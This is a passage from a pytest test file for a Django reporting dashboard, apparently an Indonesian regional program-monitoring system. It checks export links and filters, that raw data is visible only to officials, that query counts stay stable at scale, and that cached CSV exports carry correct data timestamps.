                "/unduh/kelengkapan.xlsx?tahun=2024&bulan=12&program=gbrss",
            ],
        ),
    ],
)
def test_dashboard_tables_link_their_exports_with_the_filters(client, gbrss_data, url, links):
    query = "?tahun=2024&bulan=12" + ("&program=gbrss" if url == "/kelengkapan/" else "")
    assert download_links(client.get(url + query)) == links


def test_raw_realizations_link_only_for_officials(client, gbrss_data):
    raw = "/unduh/realisasi.csv?tahun=2024&bulan=12&program=gbrss"
    public = download_links(client.get(f"/program/gbrss/{PERIOD}"))
    assert public and not [link for link in public if link.startswith("/unduh/realisasi.")]
    client.force_login(UserScopeFactory(role=UserScope.Role.PIMPINAN).user)
    assert raw in download_links(client.get(f"/program/gbrss/{PERIOD}"))


# --- Query counts -----------------------------------------------------------------------

EXPORTS = [
    f"/unduh/rapor.{{fmt}}{PERIOD}",
    f"/unduh/rapor.{{fmt}}{PERIOD}&urutkan=gbrss",
    f"/unduh/program/gbrss.{{fmt}}{PERIOD}",
    f"/unduh/program/gpstss.{{fmt}}{PERIOD}&indikator=prevalensi-stunting",
    f"/unduh/wilayah/16.07.{{fmt}}{PERIOD}",
    "/unduh/kelengkapan.{fmt}?tahun=2024&program=gbrss",
    f"/unduh/realisasi.{{fmt}}{PERIOD}",
]
URLS = [url.format(fmt=fmt) for url in EXPORTS for fmt in ("csv", "xlsx")] + [
    f"/unduh/program/gbrss/kinerja.xlsx{PERIOD}",
    f"/unduh/program/gpstss/kinerja.xlsx{PERIOD}",
]


@pytest.mark.parametrize("url", URLS)
def test_query_count_does_not_grow_with_regencies_or_rows(client, gbrss_data, pimpinan, url):
    def count():
        with CaptureQueriesContext(connection) as ctx:
            body(client.get(url))  # a streamed body runs its queries while it is read
        return len(ctx.captured_queries)

    ytd.flush()
    at_sumsel_scale = count()
    add_synthetic_regencies(50)  # 50 more regencies, 200 more reports and realizations
    ytd.flush()  # factories write past the services: rebuild their year-to-date slices
    assert count() == at_sumsel_scale


def test_a_cached_export_states_the_datas_time_not_a_download_time(gbrss_data, pimpinan):
    """A table export is given from the page cache until the data changes: it said
    "Dibuat 10:00" (made) to someone downloading it at 11:30, the cache's time. Its time
    is the data's ("Data per"), with a note that the figures are still those of the
    data at download; after a change, the next download reads the data again."""
    url = f"/unduh/rapor.csv{PERIOD}"
    jakarta = ZoneInfo("Asia/Jakarta")
    client = Client()
    with time_machine.travel(dt.datetime(2026, 12, 1, 10, 0, tzinfo=jakarta), tick=False):
        client.force_login(pimpinan)  # a session of two hours from 10:00
        first = client.get(url)
        first_block = read_csv(first)[0]
    with time_machine.travel(dt.datetime(2026, 12, 1, 11, 30, tzinfo=jakarta), tick=False):
        later = client.get(url)
        later_block = read_csv(later)[0]
    assert (first["X-Page-Cache"], later["X-Page-Cache"]) == ("miss", "hit")
    assert later_block == first_block  # the same file, figures and all
    info = dict((row[0], row[1]) for row in later_block if len(row) > 1 and row[0] != "Catatan")
    assert "Dibuat" not in info
    assert info["Data per"] == "1 Desember 2026 10:00 WIB"
    notes = [row[1] for row in later_block if row[0] == "Catatan"]
    assert (
        "Angka berkas ini sama dengan data pada saat diunduh: data belum berubah sejak "
        "waktu “Data per”." in notes
    )
    with time_machine.travel(dt.datetime(2026, 12, 1, 11, 45, tzinfo=jakarta), tick=False):
        Realization.objects.filter(report__status="verified").update(note="diperbaiki")
        changed = client.get(url)
        changed_info = dict(row[:2] for row in read_csv(changed)[0] if len(row) > 1)
    assert changed["X-Page-Cache"] == "miss"
    assert changed_info["Data per"] == "1 Desember 2026 11:45 WIB"
